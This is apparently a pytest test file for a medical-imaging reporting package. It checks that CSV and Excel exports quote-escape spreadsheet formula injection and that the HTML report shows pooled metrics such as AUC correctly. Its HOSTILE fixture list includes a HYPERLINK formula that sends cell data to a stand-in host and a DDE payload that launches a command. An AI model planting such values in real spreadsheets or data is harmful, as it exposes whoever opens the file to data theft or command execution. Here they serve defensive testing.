"""Reports opened in a spreadsheet never run text from the data as a formula, and the
HTML report shows a pooled metric (AUC, accuracy: one value over all cases) as such,
not as n=0 with NaN statistics."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from medasl.ops import report
from medasl.runtime import outputs
from medasl.runtime.values import Measured

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTAB", "\rCR"]
SCORES = Measured("dice", "max", 0.5, {cid: -0.25 for cid in HOSTILE} | {"plain": 0.75},
                  {"=class": -1.5})


def test_csv_text_cells() -> None:
    assert [outputs.csv_text(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]
    for number in ("-0.5", "-1e-3", "+3", "-.5", "12"):
        assert outputs.csv_text(number) == number  # a number is not a formula
    assert outputs.csv_text("case-01") == "case-01"


def test_excel_stores_text_from_the_data_as_text(tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    from openpyxl import load_workbook

    (written,) = report.excel(tmp_path / "r.xlsx", [SCORES])
    book = load_workbook(written)
    cells = {row[0].value: row[0] for row in book["dice"].iter_rows(min_row=2)}
    hostile = [cid.replace("\r", "\n") for cid in HOSTILE]  # XML reads a carriage return back as a newline
    assert set(cells) == {*hostile, "plain"}
    for cid in hostile:
        assert cells[cid].data_type == "s" and cells[cid].quotePrefix, cid  # not "f" (a formula)
    values = [row[1].value for row in book["dice"].iter_rows(min_row=2)]
    assert values[:len(HOSTILE)] == [-0.25] * len(HOSTILE)  # numbers stay numbers
    assert book["dice"]["D2"].value == "=class" and book["dice"]["D2"].data_type == "s"
    assert book["dice"]["E2"].value == -1.5
    import zipfile

    sheets = [n for n in zipfile.ZipFile(written).namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in zipfile.ZipFile(written).read(n) for n in sheets)  # no formula anywhere


def test_csv_report_escapes_text_but_not_numbers(tmp_path: Path) -> None:
    (written,) = report.csv(tmp_path / "r.csv", [SCORES])
    with open(written, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    cases = [r["case"] for r in rows if r["case"]]
    assert cases == ["'" + cid for cid in HOSTILE] + ["plain"]
    assert [r["class"] for r in rows if r["class"]] == ["'=class"]
    assert {r["value"] for r in rows if r["case"] in ("'" + HOSTILE[0],)} == {"-0.25"}
    assert [r["value"] for r in rows if r["class"]] == ["-1.5"]


def test_box_table_escapes_case_ids(tmp_path: Path) -> None:
    pytest.importorskip("SimpleITK")
    import numpy as np

    from medasl.ops import io
    from medasl.runtime.values import Boxes

    boxes = Boxes(np.array([[0.0, 0.0, 0.0]]), np.array([[2.0, 2.0, 2.0]]), np.array([1]), np.array([0.5]))
    (written,) = io.write_boxes(boxes, tmp_path / "b.csv", case="=1+2")
    with open(written, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["seriesuid"] == "'=1+2" and rows[0]["coordX"] == "1.0"


def _summary_rows(text: str) -> dict[str, list[str]]:
    table = text.split("<h2>Metrics</h2>")[1].split("</table>")[0]
    rows = re.findall(r"<tr>(.*?)</tr>", table)
    cells = [re.findall(r"<td>(.*?)</td>", row) for row in rows]
    return {row[0]: row for row in cells if row}


def test_html_shows_a_pooled_metric_as_pooled(tmp_path: Path) -> None:
    auc = Measured("auc", "max", 0.875)
    dice = Measured("dice", "max", 0.75, {"case-1": 0.7, "case-2": 0.8})
    text = report.html(tmp_path / "r.html", metrics=[dice, auc])[0].read_text(encoding="utf-8")
    rows = _summary_rows(text)
    assert rows["auc"][:4] == ["auc", "max", "0.875", "pooled"]
    assert rows["auc"][4:9] == [""] * 5  # no NaN mean, std, median, quartiles
    assert rows["dice"][3] == "2"
    assert "NaN" not in text and ">0<" not in text
    per_case = text.split("<h2>Metrics per case</h2>")[1]
    assert "<th>dice</th>" in per_case and "<th>auc</th>" not in per_case
